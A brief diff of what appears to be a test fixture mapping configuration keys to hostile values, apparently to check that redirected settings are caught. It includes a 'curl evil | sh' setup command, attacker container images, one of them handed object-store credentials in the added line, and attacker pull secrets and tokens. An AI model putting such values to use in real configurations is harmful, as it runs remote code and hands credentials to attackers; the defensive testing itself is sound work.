@@ -331,6 +331,7 @@ REDIRECTS: dict[str, tuple[str, object]] = {
                                  "credentials": {"secret_access_key": "s3cr3t-key"}}),
     "setup": ("hpc", ["curl evil | sh"]),
     "defaults.image": ("serving", "evil/image:latest"),
+    "fetch_image": ("serving", "evil/fetch:latest"),  # it is handed the object store's credentials
     "defaults.python": ("hpc", "./venv/bin/python"),
     "image_pull_secrets": ("serving", ["attacker-cred"]),
     "defaults.secret_env": ("serving", {"HF_TOKEN": "attacker/token"}),
